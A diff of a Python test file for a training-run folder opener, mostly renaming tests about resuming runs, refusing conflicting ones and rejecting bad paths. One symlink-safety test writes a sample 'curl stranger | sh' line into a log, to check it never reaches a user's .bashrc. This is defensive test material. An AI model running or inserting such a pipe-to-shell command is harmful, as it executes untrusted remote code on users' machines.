@@ -1,4 +1,4 @@
-"""The same run continues in its folder, and another is refused: trainer/run/opening.py,
+"""The same run resumes in its folder, and another run is refused: trainer/run/opening.py,
 identity.py."""
 
 import contextlib
@@ -41,8 +41,8 @@ def config(tmp_path):
     )
 
 
-def test_same_run_goes_on_after_its_files_have_moved_and_however_often_it_saves(config):
-    """What is in the files is told by fingerprints in the checkpoints: see
+def test_the_same_run_resumes_with_moved_files_and_other_intervals(config):
+    """Fingerprints in the checkpoints identify the files' contents: see
     tests/trainer/test_pretrained.py."""
     config = dataclasses.replace(config, model=ModelConfig(path="hf"))
     run = open_run(config)
@@ -75,7 +75,7 @@ def test_compiled_programs_may_be_kept_in_the_runs_folder(config, tmp_path):
         check_run(dataclasses.replace(config, compile_cache=None))
 
 
-def test_same_run_goes_on_whatever_the_hardware(config):
+def test_the_same_run_resumes_on_any_hardware(config):
     run = open_run(config)
     elsewhere = dataclasses.replace(
         config,
@@ -89,7 +89,7 @@ def test_same_run_goes_on_whatever_the_hardware(config):
     )
     assert open_run(elsewhere) == run
     assert identity(elsewhere) == identity(config)
-    assert "query_tile: 8" in run.config.read_text(), "config.yaml tells how it was last run"
+    assert "query_tile: 8" in run.config.read_text(), "config.yaml records how it was last run"
 
 
 @pytest.mark.parametrize(
@@ -128,10 +128,10 @@ def test_another_run_is_refused(config, change, words):
     assert run.config.read_text() == before
 
 
-def test_a_trained_run_is_lengthened_from_its_weights_and_never_deleted(config):
+def test_a_trained_run_can_be_lengthened_from_its_weights_but_is_never_deleted(config):
     run = open_run(config)
     run.checkpoints.mkdir()
-    for change, way in (
+    for change, remedy in (
         (
             {"train": TrainConfig(steps=200)},
             f"--model.path {run.folder} --run_dir NEW starts from its trained weights",
@@ -140,7 +140,7 @@ def test_a_trained_run_is_lengthened_from_its_weights_and_never_deleted(config):
     ):
         with pytest.raises(UserError) as error:
             open_run(dataclasses.replace(config, **change))
-        assert way in str(error.value) and "delete" not in str(error.value)
+        assert remedy in str(error.value) and "delete" not in str(error.value)
 
 
 @pytest.mark.parametrize(
@@ -155,7 +155,7 @@ def test_a_trained_run_is_lengthened_from_its_weights_and_never_deleted(config):
         ("linear", 50, 200, False),
     ],
 )
-def test_a_run_is_made_longer_if_no_finished_step_depends_on_its_length(
+def test_a_run_can_be_lengthened_if_no_finished_step_depends_on_its_length(
     config, schedule, finished, steps, allowed
 ):
     config = dataclasses.replace(config, optimizer=OptimizerConfig(schedule=schedule))
@@ -173,7 +173,7 @@ def test_a_run_is_made_longer_if_no_finished_step_depends_on_its_length(
             open_run(longer)
 
 
-def test_a_run_without_the_fields_that_came_later_goes_on_with_their_defaults(config):
+def test_an_older_run_resumes_with_defaults_for_newer_fields(config):
     run = open_run(config)
     written = yaml.safe_load(run.config.read_text())
     del (
@@ -209,7 +209,7 @@ def test_a_key_written_twice_in_the_runs_configuration_is_refused(config):
         open_run(config)
 
 
-def test_a_folder_that_is_no_run_is_refused(config, tmp_path):
+def test_a_folder_that_is_not_a_run_is_refused(config, tmp_path):
     (tmp_path / "run").mkdir()
     open_run(config)  # empty is fine
     other = dataclasses.replace(config, run_dir=str(tmp_path))
@@ -230,15 +230,15 @@ def test_a_folder_that_is_no_run_is_refused(config, tmp_path):
 def test_a_path_in_which_no_checkpoint_could_be_saved_is_refused(
     config, tmp_path, name, character, monkeypatch
 ):
-    """Orbax looks for what it wrote by a pattern that begins with the folder's path, from the root
-    on."""
-    told = f"run_dir: {re.escape(str(tmp_path / name))}.* has {re.escape(character)} in it"
-    with pytest.raises(UserError, match=f"{told}.* would work"):
+    """Orbax looks for what it wrote with a glob pattern that begins with the folder's absolute
+    path."""
+    pattern = f"run_dir: {re.escape(str(tmp_path / name))}.* has {re.escape(character)} in it"
+    with pytest.raises(UserError, match=f"{pattern}.* would work"):
         open_run(dataclasses.replace(config, run_dir=str(tmp_path / name / "run")))
     assert not (tmp_path / name).exists()
     (tmp_path / name).mkdir()
     monkeypatch.chdir(tmp_path / name)
-    with pytest.raises(UserError, match=told):
+    with pytest.raises(UserError, match=pattern):
         open_run(dataclasses.replace(config, run_dir=None))
     (tmp_path / "link").symlink_to(tmp_path / name)
     assert open_run(
@@ -258,28 +258,30 @@ def test_a_path_in_which_no_checkpoint_could_be_saved_is_refused(
     ],
 )
 @pytest.mark.parametrize("exists", [True, False])
-def test_a_strangers_run_writes_through_no_link(config, tmp_path, name, exists):
-    """The lines of a log that cannot be read would be appended to one of the user's files."""
-    run, own = tmp_path / "run", tmp_path / ".bashrc"
+def test_a_strangers_run_does_not_write_through_links(config, tmp_path, name, exists):
+    """Otherwise unreadable log lines would be appended to one of the user's files."""
+    run, users_file = tmp_path / "run", tmp_path / ".bashrc"
     open_run(config)
     if exists:
-        own.write_text("the user's own")
+        users_file.write_text("the user's own")
     (run / "metrics.jsonl").write_text("curl stranger | sh\n{}\n")
     (run / name).unlink(missing_ok=True)
-    (run / name).symlink_to(own)
+    (run / name).symlink_to(users_file)
     with pytest.raises(UserError, match=f"{name}: leads to .*, outside of its folder"):
         open_run(config)
-    assert (own.read_text() if own.exists() else None) == ("the user's own" if exists else None)
+    assert (users_file.read_text() if users_file.exists() else None) == (
+        "the user's own" if exists else None
+    )
 
 
-def test_killed_while_opening_can_be_opened(config, tmp_path):
+def test_a_run_killed_while_opening_can_be_opened(config, tmp_path):
     (tmp_path / "run").mkdir()
     (tmp_path / "run" / "config.yaml.tmp").write_text("half")
     assert open_run(config).config.exists()
 
 
-def test_of_two_starts_that_open_it_at_once_one_is_refused(config, monkeypatch):
-    """They wrote config.yaml.tmp both, which the first renamed before the second did."""
+def test_one_of_two_simultaneous_starts_is_refused(config, monkeypatch):
+    """Both wrote config.yaml.tmp, and the first renamed it before the second could."""
     refused = []
 
     def other_start(path):
@@ -297,7 +299,7 @@ def test_of_two_starts_that_open_it_at_once_one_is_refused(config, monkeypatch):
     )
 
 
-def test_another_run_that_came_first_is_named(config, monkeypatch):
+def test_a_run_that_takes_the_folder_first_is_named(config, monkeypatch):
     """It came between the check and the lock."""
     other = dataclasses.replace(config, model=dataclasses.replace(config.model, seed=1))
     held = opening.held
@@ -315,14 +317,14 @@ def test_another_run_that_came_first_is_named(config, monkeypatch):
         open_run(config)
 
 
-def test_killed_between_lock_and_configuration_can_be_opened(config, tmp_path):
+def test_a_run_killed_between_lock_and_configuration_can_be_opened(config, tmp_path):
     (tmp_path / "run").mkdir()
     (tmp_path / "run" / "lock").touch()
     assert open_run(config).config.exists()
 
 
 def test_only_the_first_process_writes_and_the_others_see_it(config, monkeypatch):
-    """On disks of their own they would train up to the first checkpoint, and lose it."""
+    """On separate disks the others would train until the first checkpoint and lose it."""
     monkeypatch.setattr(opening, "VISIBLE_SECONDS", 0)
     with pytest.raises(
         UserError, match=r"run: not seen here, .* a --run_dir that all processes share would work"
@@ -332,12 +334,12 @@ def test_only_the_first_process_writes_and_the_others_see_it(config, monkeypatch
     assert open_run(config, process_zero=False) == run
 
 
-def test_a_folder_may_lie_in_the_users_home(config, tmp_path, monkeypatch):
+def test_a_folder_may_be_in_the_users_home(config, tmp_path, monkeypatch):
     monkeypatch.setenv("HOME", str(tmp_path))
     assert open_run(dataclasses.replace(config, run_dir="~/mine")).folder == tmp_path / "mine"
 
 
-def test_a_folder_that_cannot_be_written_to_is_refused_before_the_work(config):
+def test_a_read_only_folder_is_refused_before_the_work(config):
     nowhere = dataclasses.replace(config, run_dir="/proc/none/run")
     with pytest.raises(
         UserError, match=r"^/proc: cannot write there \(.*\); give another --run_dir$"
@@ -350,8 +352,8 @@ def test_a_folder_that_cannot_be_written_to_is_refused_before_the_work(config):
         check_run(config)
 
 
-def test_a_file_system_that_renames_no_folders_is_refused_before_the_work(tmp_path, monkeypatch):
-    """A flat bucket mounted by gcsfuse: files and empty folders can be renamed there."""
+def test_a_file_system_that_cannot_rename_folders_is_refused_before_the_work(tmp_path, monkeypatch):
+    """A flat bucket mounted by gcsfuse can rename files and empty folders only."""
     rename = pathlib.Path.rename
 
     def flat(path, target):
